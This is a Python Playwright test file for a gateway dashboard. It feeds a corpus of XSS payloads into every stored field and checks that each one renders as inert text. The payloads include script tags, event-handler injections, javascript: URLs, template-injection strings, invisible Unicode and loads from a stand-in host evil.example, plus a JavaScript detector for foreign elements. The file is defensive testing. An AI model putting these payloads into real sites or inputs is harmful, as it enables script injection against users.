"""Whatever a client, a model or an upstream put into the store is text in the dashboard: a corpus in every field."""

from __future__ import annotations

import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import quote

import pytest
from dashboard_tab import Tab
from dashboard_world import SETTINGS, World, exchange

from potstill.distill.playbook.book import Playbook
from potstill.distill.playbook.operations import Add, Batch, Stage
from potstill.trajectories.exchange import Exchange, Upstream
from potstill.trajectories.opening import open_store
from potstill.types import Answerer, Decision, DemonstrationRef, ErrorRecord, Reason, Vote

pytestmark = [pytest.mark.browser, pytest.mark.full]
if TYPE_CHECKING:
    from playwright.sync_api import Browser

MARKUP = (
    "<script>hit(1)</script>",
    "</script><script>hit(2)</script>",
    "\"><img src=x onerror=hit(3)>",
    "'><img src=x onerror='hit(4)'>",
    "<svg onload=hit(5)>",
    "<svg><animate onbegin=hit(6) attributeName=x dur=1s></svg>",
    "<svg><style><img src=x onerror=hit(7)></style></svg>",
    "<iframe srcdoc=\"<script>parent.hit(8)</script>\"></iframe>",
    "<iframe src=javascript:parent.hit(9)></iframe>",
    "<input autofocus onfocus=hit(10)>",
    "<details open ontoggle=hit(11)>x</details>",
    "<video><source onerror=hit(12)></video>",
    "<body onload=hit(13)>",
    "<!--><img src=x onerror=hit(16)>-->",
    "<template><img src=x onerror=hit(17)></template><img src=x onerror=hit(17)>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit(18)>\">",
    "</textarea></title></style><img src=x onerror=hit(19)>",
    "<script src=http://evil.example/x.js></script><img src=x onerror=hit(21)>",
)  # fmt: skip
"""Each runs by itself where it is written into a page as markup; a test below proves it."""
OTHERS = (
    "javascript:hit(30)",
    "<marquee onstart=hit(20)>x</marquee>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=hit(15)&gt;\">",
    "<object data=\"javascript:hit(14)\"></object>",
    "data:text/html,<script>hit(31)</script>",
    "[a link](javascript:hit(32)) ![a picture](http://evil.example/p.png)",
    "{{constructor.constructor('hit(33)')()}} ${hit(33)} <%= hit(33) %> #{hit(33)}",
    "&lt;img src=x onerror=hit(34)&gt;",
    "<style>@import 'http://evil.example/a.css'; body { background: url(http://evil.example/b) }</style>",
    "<link rel=stylesheet href=http://evil.example/c.css><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<form action=javascript:hit(35)><button autofocus>x</button></form>",
    "' onmouseover='hit(36)' x='",
    "__proto__", "constructor", "../../keys",
    "pay \u202e0001$\u202c now", "\u2066isolated\u2069 \u200bzero\ufeffwidth\u00ad", "line\u2028separator\u2029here",
    "\u001b[31mred\u001b[0m \u0007bell \u0085next",
    "\uff1cscript\uff1ehit(37)\uff1c/script\uff1e <\u017fcript>hit(38)</\u017fcript>",
    "\U0001f469\u200d\U0001f4bb fine", "x" * 3000 + "<img src=x onerror=hit(39)>",
)  # fmt: skip
CORPUS = (*MARKUP, *OTHERS)
HIDDEN = re.compile(
    "[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
)


def visible(text: str) -> str:
    """As the page writes what could hide or turn other characters."""
    return HIDDEN.sub(lambda found: f"\\u{ord(found[0]):04x}", text)


def poisoned(at: int, text: str) -> Exchange:
    """An exchange with the text in each of its fields. Its prompt repeats a call of a tool and what that answered."""
    name = text[:200]
    call = {"id": name, "type": "function", "function": {"name": name, "arguments": json.dumps({name: text})}}
    messages: list[dict[str, Any]] = [
        {"role": "system", "content": text},
        {"role": "user", "content": text},
        {"role": "assistant", "content": text, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": name, "content": text},
    ]
    usage = {"prompt_tokens": 10, "completion_tokens": 3, "total_tokens": 13}
    upstream = {"model": name, "upstream": name, "dialect": "openai-chat", "raw_usage": usage, "status": 200}
    broken = ErrorRecord(kind=name, message=text)
    votes = (Vote(key=text, text=text), Vote(key=None, text=text))
    return exchange(
        f"{at} {name}",
        text,
        text,
        namespace=_tenant(at, text),
        messages=messages,
        message={"role": "assistant", "content": text, "reasoning_content": text, "tool_calls": [call]},
        model=name,
        asked={"tools": [{"type": "function", "function": {"name": name, "description": text, "parameters": {}}}]},
        route=name,
        stage=name,
        notes=(text,),
        decision=Decision(
            answerer=Answerer.TEACHER, reason=Reason.DISAGREED, rule=name, votes=votes, samples=2
        ),
        demonstrations=(DemonstrationRef(trajectory_id=name, start=0, stop=1),),
        calls=(
            Upstream(answerer=Answerer.TEACHER, **upstream),
            Upstream(answerer=Answerer.STUDENT, error=broken, **{**upstream, "status": 500}),
        ),
        metadata={"goal": text, "plan": text, "task": name, "environment": name, "tags": [text], name: {name: text}},
        started_at=time.time() - 1000 + at,
    )  # fmt: skip


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    named = [text for text in CORPUS if len(text) < 200]
    tables = "".join(
        f"[routes.{_toml(text)}]\nteacher = {_toml(text)}\nstudent = 'small'\nmode = 'shadow'\n"
        f"[routes.{_toml(text)}.playbook]\nname = {_toml(text)}\n"
        f"[models.{_toml(text)}]\nupstream = 'cloud'\nmodel = {_toml(text)}\n"
        f"[tenants.{_toml(text)}]\nrequests_per_minute = 60\nmodels = [{_toml(text)}]\n"
        for text in named
    )
    past = [poisoned(at, text) for at, text in enumerate(CORPUS)]
    folder = tmp_path_factory.mktemp("corpus")
    _teach(folder / "gateway.db")
    world = World(folder, past, SETTINGS + tables)
    yield world
    world.close()


BOOK = MARKUP[2]


def _teach(db: Path) -> None:
    """A playbook under each name that may be one, for a tenant of a hostile name; the first has the whole corpus in its
    bullets, as a script of one's own may write it. Others' texts pass the border, which leaves less of them."""
    with open_store(db) as store:
        for at, text in enumerate(CORPUS):
            whole = [Add(section=_line(one)[:80], content=one, stage=Stage.LIVE) for one in CORPUS if _line(one) == one]
            adds = whole if text == BOOK else [Add(section="others", content=_line(text), stage=Stage.LIVE)]
            if len(text) < 200 and _line(text) == text:
                Playbook(store, _tenant(at, text), text).apply(Batch(operations=tuple(adds), actor="x"))


def _line(text: str) -> str:
    """What a book takes: no control characters."""
    return re.sub("[\u0000-\u001f\u007f-\u009f\u2028\u2029]", " ", text)


def _toml(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)


def _tenant(at: int, text: str) -> str:
    """No tenant's name holds a slash: the admin API's paths end it there."""
    return f"{at} {text[:200]}".replace("/", "|")


def _segment(at: int, text: str) -> str:
    return f"{quote(_tenant(at, text), safe='')}/{quote(f'{at} {text[:200]}', safe='')}"


def test_the_corpus_runs_where_a_page_writes_markup(launched: Browser) -> None:
    for at, payload in enumerate(MARKUP):
        page = launched.new_page()
        hits: list[object] = []
        page.expose_function("hit", lambda *told, hits=hits: hits.append(told))
        page.route("**/*", lambda route: route.abort())
        page.set_content(f"<!doctype html><body>{payload}", wait_until="commit")
        for _ in range(100):
            if hits:
                break
            page.wait_for_timeout(20)
        assert hits, MARKUP[at]
        page.close()


UNFOLD = """for (const one of document.querySelectorAll("details")) one.open = true;
for (const one of document.querySelectorAll("main button")) if (/^All /.test(one.textContent)) one.click();"""
FOREIGN = """[...document.querySelectorAll("*")].filter((one) =>
  /^(script|iframe|object|embed|style|link|meta|base|template|animate|video|math|marquee|noscript)$/i.test(one.tagName)
    && !(document.head.contains(one)) || [...one.attributes].some((held) => /^on|^style$|^srcdoc$/i.test(held.name))
    || /^\\s*(javascript|data|vbscript):/i.test(one.getAttribute("href") ?? one.getAttribute("src") ?? "")
).map((one) => one.outerHTML.slice(0, 200))"""
"""Elements and attributes that no script of ours makes."""


@pytest.mark.parametrize("place", ["overview", "episodes", "live", "playbooks", "tenants"])
def test_lists_show_each_payload_as_text(tab: Tab, place: str) -> None:
    page = tab.log_in(place)
    tab.settled()
    page.locator("main table").first.wait_for()
    page.locator("main table").first.hover()
    shown = page.locator("main").text_content() or ""
    missing = [text for text in CORPUS if len(text) < 100 and visible(text) not in shown]
    assert missing == []
    assert page.evaluate(FOREIGN) == []


def test_an_episode_shows_each_payload_as_text(tab: Tab, world: World) -> None:
    """After the lists: an outcome ends an episode, and an ended one is no longer live."""
    page = tab.log_in("tenants")
    for at, text in enumerate(CORPUS):
        told = {"success": bool(at % 2), "detail": text}
        world.admin("POST", f"episodes/{_segment(at, text)}/outcome", told)
        tab.go(f"episode/{_segment(at, text)}")
        page.locator("li.step").first.wait_for()
        page.get_by_role("button", name="Show prompts").first.click()
        page.locator("summary", has_text="Prompt of call").first.wait_for()
        page.evaluate(UNFOLD)
        page.locator("li.step").first.hover()
        shown = page.locator("main").text_content() or ""
        fields = ("goal", "plan", "message", "result", "argument", "vote", "outcome")
        assert shown.count(visible(text)) >= len(fields), text
        assert page.evaluate(FOREIGN) == [], text


def test_a_playbook_shows_each_payload_as_text(tab: Tab) -> None:
    page = tab.log_in("playbooks")
    tab.settled()
    page.locator("main section", has_text=BOOK).first.get_by_role("link").first.click()
    page.locator("main h1", has_text=BOOK).wait_for()
    tab.settled()
    page.locator("main table tr").nth(1).hover()
    shown = page.locator("main").text_content() or ""
    taught = [text for text in CORPUS if _line(text) == text]
    assert len(taught) > len(MARKUP) + 15
    assert [text for text in taught if visible(text) not in shown] == []
    assert [text for text in taught if shown.count(visible(text[:80])) < 2] == [], "in section and text"
    assert page.evaluate(FOREIGN) == []


def test_a_dialog_shows_a_name_as_text(tab: Tab) -> None:
    page = tab.log_in()
    row = page.locator("main table tr", has_text=MARKUP[2]).first
    row.get_by_role("button", name="Kill").click()
    assert MARKUP[2] in page.locator("#confirm-title").inner_text()
    page.locator("#confirm-yes").click()
    row.locator(".stage", has_text="killed").wait_for()
    (found,) = [one for one in tab.world.admin("GET", "routes")["routes"] if one["name"] == MARKUP[2]]
    assert found["rollout"]["stage"] == "killed"


FRAMES = ("{}", "episode/{}", "episode/{}/x", "episode/a/{}", "episodes?text={}", "episodes?cursor={}&route={}")
FRAMES += ("playbooks/{}", "playbooks/{}/x", "playbooks/a/{}?from={}")


@pytest.mark.parametrize("frame", FRAMES)
def test_an_address_runs_nothing(open_tab: Callable[..., Tab], frame: str) -> None:
    tab = open_tab()
    page = tab.log_in()
    for told in (*MARKUP[:6], quote(MARKUP[2], safe=""), *OTHERS[:2], *OTHERS[10:14], "%", "%ff", "?", "#", "/" * 50):
        tab.go(frame.replace("{}", told))
    assert page.evaluate(FOREIGN) == []
